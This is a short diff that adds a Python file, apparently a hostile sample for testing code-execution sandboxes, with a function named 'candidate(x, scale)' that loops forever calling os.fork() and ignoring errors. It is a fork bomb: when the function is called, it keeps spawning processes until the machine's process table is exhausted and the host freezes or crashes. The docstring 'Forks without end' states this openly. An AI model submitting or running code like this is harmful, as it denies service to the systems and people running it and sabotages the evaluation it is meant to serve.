@@ -1,0 +1,11 @@
+"""Forks without end."""
+
+import os
+
+
+def candidate(x, scale):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
